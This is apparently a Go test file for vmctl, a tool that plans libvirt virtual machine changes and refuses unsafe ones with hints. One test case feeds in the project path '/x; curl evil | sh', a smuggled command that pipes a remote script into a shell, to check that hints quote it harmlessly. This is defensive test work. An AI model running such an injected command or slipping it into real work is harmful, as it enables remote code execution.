package engine

import (
	"net/netip"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"vmctl/pkg/fault"
	"vmctl/pkg/spec"
)

const (
	storeImage = "/nix/store/aaaa-image/nixos.qcow2"
	poolDir    = "/var/lib/libvirt/images/vmctl"
)

// world is one case: what is declared, what is there, and what was asked for. It
// begins as a machine that runs exactly as declared.
type world struct {
	e *Engine
	w Wanted
	s *snapshot
	o Options
}

func settled() *world {
	c := &world{
		e: &Engine{Host: &Host{URI: "qemu:///system", Local: true}, Project: "/project", Version: "1.0"},
		w: Wanted{
			Machine: spec.Machine{
				Name: "example", Memory: spec.GiB, CPUs: 2, Disk: 10 * spec.GiB,
				Accel: spec.AccelAuto, Firmware: spec.FirmwareBIOS, Network: spec.NetworkUser,
			},
			Image: Image{
				ID: "nix-aaaaaaaaaaaaaaaa", Source: "images/example", Path: storeImage, Format: "qcow2",
				Size: 4 * spec.GiB, FileSize: spec.GiB, InPlace: true,
			},
		},
	}
	record := c.e.record(c.w, storeImage)
	live := record
	c.s = &snapshot{
		domain: &Domain{
			Name: "example", UUID: UUID("example"), State: StateRunning, Record: &record,
			Memory: spec.GiB, CPUs: 2, Disks: []string{poolDir + "/" + RootVolume("example")},
			Live: &Live{Record: &live, Memory: spec.GiB, MaxMemory: spec.GiB, CPUs: 2, MaxCPUs: 2},
		},
		pool:         Pool{Name: "vmctl", Target: poolDir, State: PoolActive, Autostart: true},
		root:         &Volume{Name: RootVolume("example"), Path: poolDir + "/" + RootVolume("example"), Format: "qcow2", Capacity: 10 * spec.GiB, Allocation: 300 * spec.MiB, Backing: storeImage},
		capabilities: &Capabilities{Arch: "x86_64", KVM: true, EFI: true, SecureBoot: true},
	}
	return c
}

func (c *world) off() { c.s.domain.State, c.s.domain.Live = StateShutOff, nil }

func (c *world) newImage() {
	c.w.Image.ID, c.w.Image.Path = "nix-bbbbbbbbbbbbbbbb", "/nix/store/bbbb-image/nixos.qcow2"
}

// short makes names readable in what is expected.
var short = strings.NewReplacer(RootVolume("example"), "ROOT", LogVolume("example"), "LOG")

func TestPlan(t *testing.T) {
	ports := []spec.Port{{Address: netip.MustParseAddr("127.0.0.1"), Host: 2222, Guest: 22, Protocol: "tcp"}}
	for name, tc := range map[string]struct {
		change func(c *world)
		want   string
	}{
		"as declared": {func(*world) {}, ""},
		"nothing there": {
			func(c *world) {
				*c.s = snapshot{pool: Pool{Name: "vmctl", Target: poolDir, State: PoolAbsent}, capabilities: c.s.capabilities}
			},
			`define pool vmctl (not there)
build pool vmctl (directory /var/lib/libvirt/images/vmctl)
autostart pool vmctl
start pool vmctl
create volume ROOT (not there: 10GiB on nix-aaaaaaaaaaaa)
define domain example (not defined)
start domain example (new)`,
		},
		"a pool whose making was interrupted": {
			func(c *world) {
				*c.s = snapshot{pool: Pool{Name: "vmctl", Target: poolDir, State: PoolInactive}, capabilities: c.s.capabilities}
			},
			"build pool vmctl (directory /var/lib/libvirt/images/vmctl)\nautostart pool vmctl\nstart pool vmctl",
		},
		"killed after the volume": {
			func(c *world) { c.s.domain, c.s.root.Allocation = nil, 200*spec.KiB },
			"define domain example (not defined)\nstart domain example (new)",
		},
		"killed while the volume was made": {
			func(c *world) { c.s.domain, c.s.root.Backing, c.s.root.Allocation = nil, "", 0 },
			`delete volume ROOT (never finished)
create volume ROOT (was never finished: 10GiB on nix-aaaaaaaaaaaa)
define domain example (not defined)
start domain example (new)`,
		},
		"killed after the definition": {
			func(c *world) { c.off() },
			"start domain example (shut off)",
		},
		"root disk of a machine that was undefined by hand": {
			func(c *world) { c.s.domain = nil },
			"define domain example (not defined)\nstart domain example (new)",
		},
		"root disk deleted by hand": {
			func(c *world) { c.off(); c.s.root = nil },
			"create volume ROOT (not there: 10GiB on nix-aaaaaaaaaaaa)\nstart domain example (shut off)",
		},
		"root disk deleted under a running guest": {
			func(c *world) { c.s.root = nil },
			"stop domain example (its root disk is gone)\ncreate volume ROOT (not there: 10GiB on nix-aaaaaaaaaaaa)\nstart domain example (was stopped)",
		},
		"root disk deleted and another image": {
			func(c *world) { c.off(); c.s.root = nil; c.newImage() },
			`create volume ROOT (not there: 10GiB on nix-bbbbbbbbbbbb)
define domain example (its disk was made anew)
start domain example (shut off)`,
		},
		"root disk deleted by hand, memory saved": {
			func(c *world) { c.off(); c.s.root = nil; c.s.domain.ManagedSave = true },
			`undefine domain example (its saved memory belongs to the root disk that is gone)
create volume ROOT (not there: 10GiB on nix-aaaaaaaaaaaa)
define domain example (not defined)
start domain example (shut off)`,
		},
		"undefined by hand, running": {
			func(c *world) { c.s.domain.Transient = true },
			"define domain example (its definition was removed)",
		},
		"undefined by hand, running, and changed": {
			func(c *world) { c.s.domain.Transient = true; c.w.Machine.Memory = 512 * spec.MiB },
			"define domain example (its definition was removed, memory 1GiB → 512MiB)\nset memory example (memory 1GiB → 512MiB)",
		},
		"undefined by hand, running, its root disk deleted": {
			func(c *world) { c.s.domain.Transient = true; c.s.root = nil },
			`stop domain example (its root disk is gone)
create volume ROOT (not there: 10GiB on nix-aaaaaaaaaaaa)
define domain example (not defined)
start domain example (was stopped)`,
		},
		"undefined by hand, running, and another image": {
			func(c *world) { c.s.domain.Transient = true; c.newImage(); c.o.Replace = true },
			`stop domain example (its root disk is replaced)
delete volume ROOT (image nix-aaaaaaaaaaaa → nix-bbbbbbbbbbbb), DESTROYS DATA
create volume ROOT (image nix-aaaaaaaaaaaa → nix-bbbbbbbbbbbb: 10GiB on nix-bbbbbbbbbbbb)
define domain example (not defined)
start domain example (was stopped)`,
		},
		"paused": {
			func(c *world) { c.s.domain.State = StatePaused },
			"resume domain example (paused)",
		},
		"more memory, running": {
			func(c *world) { c.w.Machine.Memory = 2 * spec.GiB },
			"define domain example (memory 1GiB → 2GiB), takes effect at the next boot\npending: memory 1GiB → 2GiB",
		},
		"less memory, running": {
			func(c *world) { c.w.Machine.Memory = 512 * spec.MiB },
			"define domain example (memory 1GiB → 512MiB)\nset memory example (memory 1GiB → 512MiB)",
		},
		"more memory, off": {
			func(c *world) { c.off(); c.w.Machine.Memory = 2 * spec.GiB },
			"define domain example (memory 1GiB → 2GiB)\nstart domain example (shut off)",
		},
		"memory still waits for the next boot": {
			func(c *world) {
				c.w.Machine.Memory, c.s.domain.Memory, c.s.domain.Record.Memory = 2*spec.GiB, 2*spec.GiB, 2*spec.GiB
			},
			"pending: memory 1GiB → 2GiB",
		},
		"a guest that does not follow its balloon": {
			func(c *world) {
				half := 512 * spec.MiB
				c.w.Machine.Memory, c.s.domain.Memory, c.s.domain.Record.Memory, c.s.domain.Live.Record.Memory = half, half, half, half
			},
			"",
		},
		"more cpus than the guest can take": {
			func(c *world) { c.w.Machine.CPUs = 4 },
			"define domain example (cpus 2 → 4), takes effect at the next boot\npending: cpus 2 → 4",
		},
		"more cpus, with room": {
			func(c *world) { c.w.Machine.CPUs, c.s.domain.Live.MaxCPUs = 4, 8 },
			"define domain example (cpus 2 → 4)\nset cpus example (cpus 2 → 4)",
		},
		"more cpus and restart": {
			func(c *world) { c.w.Machine.CPUs, c.o.Restart = 4, true },
			"define domain example (cpus 2 → 4)\nstop domain example (cpus 2 → 4)\nstart domain example (was stopped)",
		},
		"restart with what waits already": {
			func(c *world) {
				c.w.Machine.CPUs, c.s.domain.CPUs, c.s.domain.Record.CPUs, c.o.Restart = 4, 4, 4, true
			},
			"stop domain example (cpus 2 → 4)\nstart domain example (was stopped)",
		},
		"restart with nothing that waits": {
			func(c *world) { c.o.Restart = true }, "",
		},
		"changed with virsh": {
			func(c *world) { c.off(); c.s.domain.CPUs = 7 },
			"define domain example (cpus 7 → 2)\nstart domain example (shut off)",
		},
		"disk grown, running": {
			func(c *world) { c.w.Machine.Disk = 20 * spec.GiB },
			"resize disk ROOT (disk 10GiB → 20GiB)",
		},
		"disk grown, off": {
			func(c *world) { c.off(); c.w.Machine.Disk = 20 * spec.GiB },
			"resize volume ROOT (disk 10GiB → 20GiB)\nstart domain example (shut off)",
		},
		"disk left out keeps a larger one": {
			func(c *world) { c.w.Machine.Disk = 0 }, "",
		},
		"disk shrunk with replace": {
			func(c *world) { c.off(); c.w.Machine.Disk, c.o.Replace = 5*spec.GiB, true },
			`undefine domain example (its root disk is replaced)
delete volume ROOT (disk 10GiB → 5GiB), DESTROYS DATA
create volume ROOT (disk 10GiB → 5GiB: 5GiB on nix-aaaaaaaaaaaa)
define domain example (not defined)
start domain example (shut off)`,
		},
		"another image": {
			func(c *world) { c.newImage(); c.w.Machine.Autostart, c.s.domain.Autostart = true, true },
			`stop domain example (its root disk is replaced)
undefine domain example (its root disk is replaced)
delete volume ROOT (image nix-aaaaaaaaaaaa → nix-bbbbbbbbbbbb), DESTROYS DATA
create volume ROOT (image nix-aaaaaaaaaaaa → nix-bbbbbbbbbbbb: 10GiB on nix-bbbbbbbbbbbb)
define domain example (not defined)
autostart domain example (autostart off → on)
start domain example (was stopped)`,
		},
		"another image, and the old one was never defined": {
			func(c *world) { c.s.domain = nil; c.newImage(); c.s.root.Allocation = 200 * spec.KiB },
			`delete volume ROOT (image /nix/store/aaaa-image/nixos.qcow2 → nix-bbbbbbbbbbbb)
create volume ROOT (image /nix/store/aaaa-image/nixos.qcow2 → nix-bbbbbbbbbbbb: 10GiB on nix-bbbbbbbbbbbb)
define domain example (not defined)
start domain example (new)`,
		},
		"a root disk that was cut loose from its image": {
			func(c *world) { c.s.root.Backing = "" },
			`stop domain example (its root disk is replaced)
undefine domain example (its root disk is replaced)
delete volume ROOT (it lies on no image any more), DESTROYS DATA
create volume ROOT (it lies on no image any more: 10GiB on nix-aaaaaaaaaaaa)
define domain example (not defined)
start domain example (was stopped)`,
		},
		"a pool that is not active": {
			func(c *world) { c.s.pool.State, c.s.root = PoolInactive, nil; c.w.Machine.CPUs = 4 },
			"build pool vmctl (directory /var/lib/libvirt/images/vmctl)\nstart pool vmctl",
		},
		"firmware, network and ports": {
			func(c *world) {
				c.off()
				c.w.Machine.Firmware, c.w.Machine.SecureBoot, c.w.Machine.Ports = spec.FirmwareEFI, true, ports
			},
			"define domain example (firmware bios → efi, secure-boot false → true, ports none → 127.0.0.1:2222:22/tcp)\nstart domain example (shut off)",
		},
		"an inactive network": {
			func(c *world) {
				c.off()
				c.w.Machine.Network, c.s.network = "default", map[string]Network{"default": {Name: "default"}}
			},
			"start network default (inactive)\ndefine domain example (network user → default)\nstart domain example (shut off)",
		},
		"autostart": {
			func(c *world) { c.w.Machine.Autostart = true },
			"autostart domain example (autostart off → on)",
		},
		"autostart no more": {
			func(c *world) { c.s.domain.Autostart = true },
			"autostart domain example (autostart on → off)",
		},
		"another project's, adopted": {
			func(c *world) { c.s.domain.Record.Project, c.o.Adopt = "/elsewhere", true },
			"define domain example (project /elsewhere → /project)",
		},
		"made by an older rendering": {
			func(c *world) { c.s.domain.Record.Rendering, c.s.domain.Live.Record.Rendering = 0, 0 },
			"define domain example (definition format 0 → 2), takes effect at the next boot\npending: definition format 0 → 2",
		},
		"an image that QEMU cannot reach": {
			func(c *world) {
				c.w.Image.InPlace = false
				*c.s = snapshot{pool: c.s.pool, capabilities: c.s.capabilities}
			},
			`create volume base-nix-aaaaaaaaaaaa.qcow2 (not on the host)
create volume base-nix-aaaaaaaaaaaa.qcow2.sent (says how much has arrived)
upload volume base-nix-aaaaaaaaaaaa.qcow2 (images/example)
create volume base-nix-aaaaaaaaaaaa.qcow2.ok (marks the upload as whole)
delete volume base-nix-aaaaaaaaaaaa.qcow2.sent (all has arrived)
create volume ROOT (not there: 10GiB on nix-aaaaaaaaaaaa)
define domain example (not defined)
start domain example (new)`,
		},
		"an upload that was cut short": {
			func(c *world) {
				c.e.Host.Local = false
				name, _ := parseBase("base-nix-aaaaaaaaaaaaaaaa.qcow2")
				*c.s = snapshot{pool: c.s.pool, capabilities: c.s.capabilities, unfinished: []*baseCopy{{name: name, volume: &Volume{Name: name.String()}}}}
			},
			`delete volume base-nix-aaaaaaaaaaaa.qcow2 (an earlier upload was cut short)
create volume base-nix-aaaaaaaaaaaa.qcow2 (not on the host)
create volume base-nix-aaaaaaaaaaaa.qcow2.sent (says how much has arrived)
upload volume base-nix-aaaaaaaaaaaa.qcow2 (images/example)
create volume base-nix-aaaaaaaaaaaa.qcow2.ok (marks the upload as whole)
delete volume base-nix-aaaaaaaaaaaa.qcow2.sent (all has arrived)
create volume ROOT (not there: 10GiB on nix-aaaaaaaaaaaa)
define domain example (not defined)
start domain example (new)`,
		},
		"an upload that can go on": {
			func(c *world) {
				c.e.Host.Local = false
				name, _ := parseBase("base-nix-aaaaaaaaaaaaaaaa.me-1.qcow2")
				old, _ := parseBase("base-nix-aaaaaaaaaaaaaaaa.me-2.qcow2")
				cut := &baseCopy{name: name, volume: &Volume{Name: name.String()}, sent: &Volume{Name: name.String() + ".sent"}}
				other := &baseCopy{name: old, volume: &Volume{Name: old.String()}}
				*c.s = snapshot{pool: c.s.pool, capabilities: c.s.capabilities, unfinished: []*baseCopy{cut, other}, resumable: cut}
			},
			`delete volume base-nix-aaaaaaaaaaaa.me-2.qcow2 (an earlier upload was cut short)
upload volume base-nix-aaaaaaaaaaaa.me-1.qcow2 (images/example, goes on where it was cut short)
create volume base-nix-aaaaaaaaaaaa.me-1.qcow2.ok (marks the upload as whole)
delete volume base-nix-aaaaaaaaaaaa.me-1.qcow2.sent (all has arrived)
create volume ROOT (not there: 10GiB on nix-aaaaaaaaaaaa)
define domain example (not defined)
start domain example (new)`,
		},
		"an image that was uploaded before": {
			func(c *world) {
				c.e.Host.Local = false
				*c.s = snapshot{pool: c.s.pool, capabilities: c.s.capabilities, base: &Volume{}}
			},
			"create volume ROOT (not there: 10GiB on nix-aaaaaaaaaaaa)\ndefine domain example (not defined)\nstart domain example (new)",
		},
		"an image whose upload was cut short when all had arrived": {
			func(c *world) {
				c.e.Host.Local, c.e.Token.Client = false, "me"
				const mine, theirs = "base-nix-aaaaaaaaaaaaaaaa.me-1.qcow2", "base-nix-aaaaaaaaaaaaaaaa.bob-1.qcow2"
				*c.s = snapshot{
					pool: c.s.pool, capabilities: c.s.capabilities, base: &Volume{Name: mine},
					uploads: []string{mine, mine + ".ok", mine + ".sent", theirs, theirs + ".ok", theirs + ".sent"},
				}
			},
			"delete volume base-nix-aaaaaaaaaaaa.me-1.qcow2.sent (all has arrived)\n" +
				"create volume ROOT (not there: 10GiB on nix-aaaaaaaaaaaa)\ndefine domain example (not defined)\nstart domain example (new)",
		},
		"an image that another client is at the end of uploading": {
			func(c *world) {
				c.e.Host.Local, c.e.Token.Client = false, "me"
				const theirs = "base-nix-aaaaaaaaaaaaaaaa.bob-1.qcow2"
				*c.s = snapshot{
					pool: c.s.pool, capabilities: c.s.capabilities, base: &Volume{Name: theirs},
					uploads: []string{theirs, theirs + ".ok", theirs + ".sent"},
				}
			},
			"create volume ROOT (not there: 10GiB on nix-aaaaaaaaaaaa)\ndefine domain example (not defined)\nstart domain example (new)",
		},
	} {
		t.Run(name, func(t *testing.T) {
			c := settled()
			tc.change(c)
			plan, err := c.e.plan(c.w, c.s, c.o)
			require.NoError(t, err)
			assert.Equal(t, tc.want, short.Replace(plan.String()))
		})
	}
}

func TestPlanRefuses(t *testing.T) {
	for name, tc := range map[string]struct {
		change func(c *world)
		kind   fault.Kind
		want   string
		hint   string
	}{
		"foreign": {
			func(c *world) { c.s.domain.Record = nil }, fault.Refused,
			"a domain called example exists on qemu:///system, and vmctl did not make it",
			"give the machine another name, or rename the domain: virsh -c qemu:///system domrename example NEW-NAME",
		},
		"foreign, on a host whose URI means something to a shell": {
			func(c *world) {
				c.s.domain.Record, c.e.Host.URI = nil, "qemu+ssh://server/system?keyfile=/k&no_tty=1"
			}, fault.Refused,
			"a domain called example exists on qemu+ssh://server/system?keyfile=/k&no_tty=1, and vmctl did not make it",
			"give the machine another name, or rename the domain: virsh -c 'qemu+ssh://server/system?keyfile=/k&no_tty=1' domrename example NEW-NAME",
		},
		"our metadata under another UUID": {
			func(c *world) { c.s.domain.UUID = UUID("other") }, fault.Refused,
			"a domain called example exists on qemu:///system, and vmctl did not make it", "",
		},
		"newer": {
			func(c *world) { c.s.domain.Record.Version, c.s.domain.Record.Vmctl = 2, "9.0" }, fault.Refused,
			"machine example was made by a newer vmctl (9.0)", "",
		},
		"another project's": {
			func(c *world) { c.s.domain.Record.Project = "/elsewhere" }, fault.Refused,
			"machine example belongs to another project, /elsewhere",
			"run vmctl -C /elsewhere …, or take the machine over: vmctl up --adopt example",
		},
		"another project's, by a host that hopes that hints are copied": {
			func(c *world) { c.s.domain.Record.Project = "/x; curl evil | sh\n/y" }, fault.Refused,
			"machine example belongs to another project, /x; curl evil | sh\n/y",
			"run vmctl -C '/x; curl evil | sh /y' …, or take the machine over: vmctl up --adopt example",
		},
		"shrunk": {
			func(c *world) { c.w.Machine.Disk = 5 * spec.GiB }, fault.Refused,
			"the root disk of example is 10GiB and cannot shrink to 5GiB",
			"set disk back to 10GiB, or make the disk anew and lose what is in it: vmctl up --replace example",
		},
		"changed while a snapshot lies on the root disk": {
			func(c *world) { c.w.Machine.CPUs, c.s.domain.Disks = 4, []string{poolDir + "/example.snap"} }, fault.Refused,
			"example cannot be changed: its disk is /var/lib/libvirt/images/vmctl/example.snap and no longer the root disk that vmctl made, as after virsh snapshot-create --disk-only",
			"merge it into the root disk while the guest runs: virsh -c qemu:///system blockcommit example vda --shallow --active --pivot",
		},
		"smaller than the image": {
			func(c *world) { c.w.Machine.Disk = 2 * spec.GiB }, fault.Invalid,
			"disk: 2GiB is smaller than the image, which is 4GiB", "set disk to at least 4GiB, or leave it out",
		},
		"kvm where there is none": {
			func(c *world) {
				c.w.Machine.Accel = spec.AccelKVM
				c.s.capabilities.KVM, c.s.capabilities.NoKVM = false, "the host CPU has no vmx or svm"
			}, fault.Refused,
			"qemu:///system cannot run example under KVM: the host CPU has no vmx or svm",
			"write accel: auto in the definition, which takes software emulation where KVM does not work",
		},
		"no firmware": {
			func(c *world) { c.w.Machine.Firmware, c.s.capabilities.EFI = spec.FirmwareEFI, false }, fault.Refused,
			"qemu:///system has no UEFI firmware for example", "",
		},
		"no secure boot": {
			func(c *world) {
				c.w.Machine.Firmware, c.w.Machine.SecureBoot, c.s.capabilities.SecureBoot = spec.FirmwareEFI, true, false
			}, fault.Refused,
			"qemu:///system has no firmware with Secure Boot for example", "",
		},
		"no such network": {
			func(c *world) {
				c.w.Machine.Network, c.s.networks = "lab", []Network{{Name: "default"}, {Name: "isolated"}}
			}, fault.NotFound,
			"qemu:///system has no network lab: it has default, isolated", "",
		},
		"no networks at all": {
			func(c *world) { c.w.Machine.Network = "default" }, fault.NotFound,
			"qemu:///system has no network default: it has none", "",
		},
	} {
		t.Run(name, func(t *testing.T) {
			c := settled()
			tc.change(c)
			_, err := c.e.plan(c.w, c.s, c.o)
			require.EqualError(t, err, tc.want)
			assert.Equal(t, tc.kind, fault.KindOf(err))
			assert.NotEmpty(t, fault.HintOf(err))
			if tc.hint != "" {
				assert.Equal(t, tc.hint, fault.HintOf(err))
			}
		})
	}
}

func TestReplacingIsShownButNotAllowedUnasked(t *testing.T) {
	const image = "image nix-aaaaaaaaaaaa → nix-bbbbbbbbbbbb"
	for name, tc := range map[string]struct {
		change func(c *world)
		why    string
	}{
		"another image":                      {func(c *world) { c.newImage() }, image},
		"a guest that wrote next to nothing": {func(c *world) { c.off(); c.newImage(); c.s.root.Allocation = 200 * spec.KiB }, image},
		"a domain that was undefined by hand": {
			func(c *world) { c.s.domain = nil; c.newImage(); c.s.root.Allocation = 324 * spec.KiB },
			"image /nix/store/aaaa-image/nixos.qcow2 → nix-bbbbbbbbbbbb",
		},
		"cut loose from its image":        {func(c *world) { c.off(); c.s.root.Backing = "" }, "it lies on no image any more"},
		"deleted by hand under its guest": {func(c *world) { c.s.root = nil }, "its file is gone, and only the running guest still has it"},
	} {
		t.Run(name, func(t *testing.T) {
			c := settled()
			tc.change(c)
			plan, err := c.e.plan(c.w, c.s, c.o)
			require.NoError(t, err)
			err = plan.allowed()
			require.EqualError(t, err, "the root disk of example would be replaced and what is in it lost: "+tc.why)
			assert.Equal(t, fault.Refused, fault.KindOf(err))
			assert.Contains(t, fault.HintOf(err), "vmctl up --replace example")
			c.o.Replace = true
			plan, err = c.e.plan(c.w, c.s, c.o)
			require.NoError(t, err)
			assert.NoError(t, plan.allowed())
		})
	}
}

func TestSoftwareEmulationIsNoted(t *testing.T) {
	c := settled()
	c.s.domain = nil
	c.s.capabilities.KVM, c.s.capabilities.NoKVM = false, "the host CPU has no vmx or svm"
	plan, err := c.e.plan(c.w, c.s, c.o)
	require.NoError(t, err)
	assert.Equal(t, []string{"software emulation, which is slow: the host CPU has no vmx or svm"}, plan.Notes)
}

func TestAnImageOfAnotherArchitectureIsNoted(t *testing.T) {
	c := settled()
	c.s.domain = nil
	c.s.capabilities.KVM = true
	for arch, notes := range map[string][]string{
		"": {}, "x86_64": {},
		"aarch64": {"nix built the image as one of aarch64, and the host is x86_64: unless it was built for that (nixpkgs.hostPlatform), its guest does not boot"},
	} {
		c.w.Image.Arch = arch
		plan, err := c.e.plan(c.w, c.s, c.o)
		require.NoError(t, err)
		assert.Equal(t, notes, plan.Notes, arch)
	}
}

// What observe leaves out, plan must not need: a definition is made from the host's
// capabilities.
func TestCapabilitiesAreReadWheneverADefinitionIsMade(t *testing.T) {
	for name, change := range map[string]func(*world){
		"changed":           func(c *world) { c.w.Machine.CPUs = 3 },
		"new image":         func(c *world) { c.newImage(); c.o.Replace = true },
		"no root":           func(c *world) { c.s.root = nil },
		"unfinished root":   func(c *world) { c.s.root.Backing = "" },
		"no domain":         func(c *world) { c.s.domain = nil },
		"disk made smaller": func(c *world) { c.w.Machine.Disk, c.o.Replace = 5*spec.GiB, true },
		"recorded base":     func(c *world) { c.s.domain.Record.Base = "/elsewhere" },
	} {
		t.Run(name, func(t *testing.T) {
			c := settled()
			assert.False(t, c.e.mayDefine(c.w, c.s), "a settled machine needs none")
			change(c)
			assert.True(t, c.o.Replace || c.e.mayDefine(c.w, c.s))
		})
	}
}

// The variables of the firmware without Secure Boot hold no keys: with them Secure Boot
// would be on in name only.
func TestSecureBootHasVariablesOfItsOwn(t *testing.T) {
	vars := func(change func(c *world)) string {
		c := settled()
		c.w.Machine.Firmware = spec.FirmwareEFI
		change(c)
		p := &planner{e: c.e, w: c.w, s: c.s, plan: &Plan{}}
		d, err := p.definition()
		require.NoError(t, err)
		return d.Vars
	}
	efi := vars(func(*world) {})
	secure := vars(func(c *world) { c.w.Machine.SecureBoot = true })
	assert.Equal(t, poolDir+"/"+VarsVolume("example", false), efi)
	assert.NotEqual(t, efi, secure)
	for _, chosen := range []string{"", "/var/lib/libvirt/qemu/nvram/example_VARS.fd"} {
		libvirts := func(c *world) { c.s.domain.EFI, c.s.domain.Vars = true, chosen }
		assert.Equal(t, chosen, vars(libvirts), "what libvirt chose before stays")
		assert.Equal(t, secure, vars(func(c *world) { libvirts(c); c.w.Machine.SecureBoot = true }))
	}
}
